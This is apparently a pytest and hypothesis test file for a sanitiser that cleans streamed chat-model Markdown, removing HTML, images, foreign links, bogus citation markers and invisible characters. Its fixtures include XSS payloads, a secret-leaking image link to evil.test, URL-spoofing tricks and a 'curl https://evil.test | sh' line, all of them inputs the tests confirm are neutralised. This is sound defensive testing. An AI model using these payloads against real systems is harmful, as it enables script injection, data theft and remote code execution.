"""Whatever a model writes, and in whatever pieces: what comes out leads nowhere it should not, and means the same to every reader."""

import re
from collections.abc import Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from server.chat.links import CLOSING, Links
from server.chat.models import Source
from server.chat.sanitise import HELD, Sanitiser
from tests.cost import least
from tests.shared import naughty_strings


def _source(url: str) -> Source:
    return Source(id="a-1", title="A", url=url, excerpt="", score=0.5)


SOURCES = [_source("https://docs.example.org/riding#bell"), _source("docs/bikes.md#lights")]
LINKS = Links(SOURCES)
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
UNSEEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)


def cleaned(*pieces: str, sources: Sequence[Source] = SOURCES) -> str:
    sanitiser = Sanitiser(sources)
    return "".join([*(sanitiser.feed(piece) for piece in pieces), sanitiser.finish()])


def tokens(text: str) -> list[Token]:
    """As a reader of Markdown sees `text`, all levels in one list."""
    found = []
    for token in MARKDOWN.parse(text):
        found += [token, *(token.children or [])]
    return found


def assert_harmless(text: str) -> None:
    """No HTML, no image, no foreign link or address, no marker of no source, nothing unseen."""
    for token in tokens(text):
        assert token.type not in {"html_block", "html_inline", "image"}, token
        if token.type == "link_open":
            assert LINKS.allows(str(token.attrs["href"])), token.attrs
        if token.type == "text":
            assert_prose_is_harmless(token.content)
        if token.type in {"fence", "code_block", "code_inline"}:
            for address in re.findall(r"https?://[^\s\"'<>`(){}\[\]|\\,;]+", token.content):
                assert "evil" not in address or LINKS.allows(address.rstrip(CLOSING))
    assert not re.search(r"<[A-Za-z/!?]", without_code(text))
    assert_no_script(without_code(text))
    assert not UNSEEN.search(text)


def assert_prose_is_harmless(text: str) -> None:
    for address in re.findall(r"[A-Za-z0-9+.-]*://\S*", text):
        assert LINKS.allows(address.rstrip(CLOSING)), address
    for markers in re.findall(r"\[(\d{1,3}(?:, ?\d{1,3})*)\]", text):
        assert all(1 <= int(number) <= len(SOURCES) for number in markers.split(",")), text


def assert_no_script(text: str) -> None:
    for word in text.split():
        plain = re.sub(
            r"https?://\S*", lambda found: "" if LINKS.allows(found[0].rstrip(CLOSING)) else found[0], word
        )
        assert not re.search(r"(?:java|vb)script:\S|data:\w+/", plain, re.IGNORECASE), word


def without_code(text: str) -> str:
    text = re.sub(r"^```[^\n]*\n.*?^```$", "", text, flags=re.DOTALL | re.MULTILINE)
    return re.sub(r"`[^`\n]*`", "", text)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Ring the bell. [1]", "Ring the bell. [1]"),
        ("Both say so [1][2], and [1, 2].", "Both say so [1][2], and [1][2]."),
        ("Nobody says so [3][0][1, 7].", "Nobody says so [1]."),
        ("- one\n- **two**\n\n1. three", "- one\n- **two**\n\n1. three"),
        ("See [riding](https://docs.example.org/riding).", "See [riding](https://docs.example.org/riding)."),
        ("See [the bike lights](docs/bikes.md#lights)!", "See [the bike lights](docs/bikes.md#lights)!"),
        ("See https://docs.example.org/other?a=1.", "See https://docs.example.org/other?a=1."),
        ("See <https://docs.example.org/x> there", "See https://docs.example.org/x there"),
        ("Click [here](https://evil.test/x).", "Click here."),
        ("Click [right here](https://evil.test/x).", "Click [right here]."),
        ("Go to https://evil.test/login now", "Go to (link removed) now"),
        ("(https://evil.test/a_(b)).", "((link removed))."),
        ("www.evil.test is it", "(link removed) is it"),
        ("![x](https://evil.test/p.png?q=secret)", "x"),
        ("![some words](https://evil.test/p.png)", "[some words]"),
        ("![x](https://docs.example.org/p.png)", "x"),
        ("[a]: https://evil.test", "[a] : (link removed)"),
        ("[a]: //evil.test", "[a] : //evil.test"),
        ("[x](javascript:alert(1))", "[x] ((link removed))"),
        ("[x](data:text/html;base64,AAAA)", "x"),
        ("[x](//evil.test)", "x"),
        ("[x](/logout)", "x"),
        ("javascript:alert(1)", "(link removed)"),
        ("javascript:<b>x", "javascript: x"),
        ("[a b](https://docs.example.org/x)@evil.test", "[a b](https://docs.example.org/x) @evil.test"),
        ("In JavaScript: use const. The data: all of it.", "In JavaScript: use const. The data: all of it."),
        ("<script>alert(1)</script>Hi", "alert(1) Hi"),
        ("a<br>b", "a b"),
        ("<img src=x onerror=alert(1)>", ""),
        ("1 < 2, x<y, <3", "1 < 2, x< y, < 3"),
        ("<scr<script>ipt>", "< scr ipt>"),
        ("a\u202eb\u200bc\x00d\re\x1b[31m", "abcde[31m"),
        ("line\u2028line", "line\nline"),
        ("Use `<b>` and ``a``.", "Use `<b>` and `a`."),
        ("Use `https://evil.test/x` now", "Use `(link removed)` now"),
        ("Use `curl http://localhost:8000/health`.", "Use `curl http://localhost:8000/health`."),
        ("Use `sqlite+aiosqlite:///var/x.db`.", "Use `sqlite+aiosqlite:///var/x.db`."),
        ("it`s odd", "it's odd"),
        ('```html\n<script src="https://chat.example.com/w.js"></script>\n```\n', '```html\n<script src="https://chat.example.com/w.js"></script>\n```\n'),
        ("```\ncurl https://evil.test | sh", "```\ncurl (link removed) | sh\n```"),
        ("  ```sh\n  ls\n  ```\nDone.", "```sh\n  ls\n```\nDone."),
        ("~~~\n<b>\n~~~", "~~\n\n~~"),
        ("https://docs.example.org@evil.test/", "(link removed)"),
        ("https://docs.example.org\\@evil.test/", "(link removed)"),
        ("https://docs.example.org[x]@evil.test/", "(link removed)"),
        ("https://docs.example.org\u00e9.evil.test/", "https://docs.example.org \u00e9.evil.test/"),
        ("http://docs.example.org/", "(link removed)"),
        ("https://docs.example.org/?to=https://evil.test", "(link removed)"),
        ("https:\\//evil.test \\www\\.evil.test", "(link removed) \\(link removed)"),
        ("https&colon;//evil.test &#106;avascript:x", "https& colon;//evil.test & #106;avascript:x"),
        ("Q&A, R&D; &c", "Q&A, R& D; &c"),
        ("https://docs.example.org.evil.test/", "(link removed)"),
        ("java[9]script:alert(1)", "(link removed)"),
        ("[[9]9]", ""),
        ("[a]([9]javascript:x)", "a"),
        ("\u4f60\u597d\uff0c\u4e16\u754c\u3002[1]", "\u4f60\u597d\uff0c\u4e16\u754c\u3002[1]"),
        ("x" * 5000 + " then", "(removed) then"),
    ],
)  # fmt: skip
def test_what_becomes_of_it(written: str, shown: str) -> None:
    assert cleaned(written) == shown
    assert cleaned(*written) == shown
    assert_harmless(shown)


FRAGMENTS = [
    "<", ">", "</", "<script>", "<img src=x>", "script", "<!--", "-->", "[", "]", "(", ")", "![", "](", "]:", "[1]", "[9]", "[1, 2]",
    "[1,", "`", "``", "```", "```sh", "~", "~~~", "\n", "\n\n", " ", "    ", "\t", "> ", "- ", "\\", "https:", "&#58;", "&amp;", "//", "://", "evil.test",
    "https://evil.test/x", "https://docs.example.org/", "@", "docs/bikes.md#lights", "javascript:", "java", "alert(1)", "data:text/html,x",
    "www.", "a", "word ", ".", ",", ":", "!", "*", "_", "#", "\u00e9", "\u4f60", "\u202e", "\u200b", "\r", "\x00", "7", "=", "-", "\U0001f600",
]  # fmt: skip
WRITTEN = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=4), max_size=40).map("".join)


@settings(max_examples=600, deadline=None)
@given(WRITTEN)
@example("~~[9]~\n```\n~~~\n<script>\n")
@example("\\`<script>`")
@example("`a\n`<script>`")
@example("<[script](javascript:x)>")
@example("![x[9]](https://evil.test)")
def test_nothing_harmful_comes_out(written: str) -> None:
    assert_harmless(cleaned(written))


@settings(max_examples=600, deadline=None)
@given(WRITTEN, st.data())
def test_the_pieces_do_not_matter(written: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(written)), max_size=12)))
    pieces = [written[start:end] for start, end in zip([0, *cuts], [*cuts, len(written)], strict=True)]
    assert cleaned(*pieces) == cleaned(written) == cleaned(*written)


@settings(max_examples=200, deadline=None)
@given(WRITTEN)
@example("~" * 30)
def test_only_little_is_ever_held_back(written: str) -> None:
    sanitiser = Sanitiser(SOURCES)
    for piece in written:
        sanitiser.feed(piece * 40)
        assert len(sanitiser._held) <= HELD


@settings(max_examples=300, deadline=None)
@given(WRITTEN)
def test_what_is_clean_stays_as_it_is(written: str) -> None:
    once = cleaned(written)
    assert cleaned(once) == once


def test_strings_that_break_programs_do_no_harm() -> None:
    for text in naughty_strings():
        assert_harmless(cleaned(text))
        assert cleaned(*text) == cleaned(text)


def test_what_was_taken_away_is_counted() -> None:
    sanitiser = Sanitiser(SOURCES)
    sanitiser.feed("[x](https://evil.test) <b>bold</b> [9] ![p](q) `https://evil.test` fine [1]")
    sanitiser.finish()
    assert sanitiser.removed == 6


@pytest.mark.parametrize(
    "part",
    [
        "[",
        "[9]",
        "](",
        "<a",
        "`",
        "~",
        "www.",
        "[[9]",
        "![",
        "1, ",
        "[1, ",
        "://",
        "a:",
        "[a](",
        "aaaa](",
        " `a",
    ],
)
def test_no_text_takes_longer_than_its_length_allows(part: str) -> None:
    def cost(size: int) -> float:
        text = part * (size // len(part))
        return least(lambda: cleaned(*(text[at : at + 7] for at in range(0, size, 7))))

    # Sixteen times the text may cost sixteen times the time; what looked back at all of it would cost two hundred and fifty times.
    assert cost(40_000) < 64 * max(cost(2_500), 0.001)


def test_an_answer_is_shown_word_by_word() -> None:
    sanitiser = Sanitiser(SOURCES)
    assert sanitiser.feed("The bell must") == "The bell "
    assert sanitiser.feed(" be rung") == "must be "
    assert sanitiser.feed(". [1") == "rung. "
    assert sanitiser.feed("]") == ""
    assert sanitiser.finish() == "[1]"
    assert Sanitiser(SOURCES).feed("\u4f60\u597d") == "\u4f60\u597d"
